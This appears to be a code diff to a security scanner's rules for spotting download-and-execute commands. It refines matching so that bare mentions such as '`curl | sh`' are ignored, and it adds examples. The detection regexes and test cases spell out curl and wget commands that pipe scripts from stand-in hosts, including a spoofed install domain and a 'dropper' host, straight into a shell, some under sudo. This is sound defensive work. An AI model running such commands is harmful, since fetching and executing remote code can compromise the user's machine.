@@ -14,8 +14,17 @@ function isOfficial(command: string): boolean {
 const PS_DOWNLOAD_INVOKE =
   /\b(?:iex|Invoke-Expression)\b[^\n]{0,200}?\b(?:DownloadString|Invoke-WebRequest|iwr|Invoke-RestMethod|irm|Net\.WebClient)\b[^\n]{0,200}|\b(?:DownloadString|iwr|irm|Invoke-WebRequest|Invoke-RestMethod)\b[^\n]{0,300}?\|\s*(?:iex|Invoke-Expression)\b/gi;
 
+/**
+ * Whether the download names something to fetch: a URL, a host, a variable. "`curl | sh`" in a
+ * list of what a scanner detects, or "curl <url> | bash" in a usage comment, runs nothing.
+ */
+function namesTarget(command: string): boolean {
+  const args = command.slice(0, command.lastIndexOf("|")).replace(/^\S+/, "").replace(/<[^>\s]*>/g, "");
+  return args.split(/\s+/).some((a) => a !== "" && !/^-/.test(a) && !/^[`'"()]+$/.test(a));
+}
+
 function pipedDownloads(segment: Segment, known: boolean): Hit[] {
-  const hits = hitsOf(PIPE_TO_INTERPRETER, segment.text, (m) => isOfficial(m[0]) === known);
+  const hits = hitsOf(PIPE_TO_INTERPRETER, segment.text, (m) => namesTarget(m[0]) && isOfficial(m[0]) === known);
   if (known) hits.push(...hitsOf(PS_DOWNLOAD_INVOKE, segment.text, (m) => isOfficial(m[0])));
   return hits;
 }
@@ -33,8 +42,8 @@ export const downloadExecuteRules: Rule[] = [
     keywords: ["curl", "wget", "fetch"],
     match: (segment) => pipedDownloads(segment, false),
     examples: {
-      positive: ["curl -fsSL https://example.invalid/setup.sh | bash", "wget -qO- http://203.0.113.5/x | sudo sh", "curl -LsSf https://astral.sh.evil.example/uv/install.sh | sh"],
-      negative: ["curl -fsSL https://api.example.invalid/data | jq .", "curl -s https://example.invalid/x.json | python3 -m json.tool"],
+      positive: ["curl -fsSL https://example.invalid/setup.sh | bash", "wget -qO- http://203.0.113.5/x | sudo sh", "curl -LsSf https://astral.sh.evil.example/uv/install.sh | sh", "curl -s dropper:8080/i | sh"],
+      negative: ["curl -fsSL https://api.example.invalid/data | jq .", "curl -s https://example.invalid/x.json | python3 -m json.tool", "- Download and execute (`curl | sh`)", "#   curl -sSL <url> | sudo bash"],
     },
   },
   {
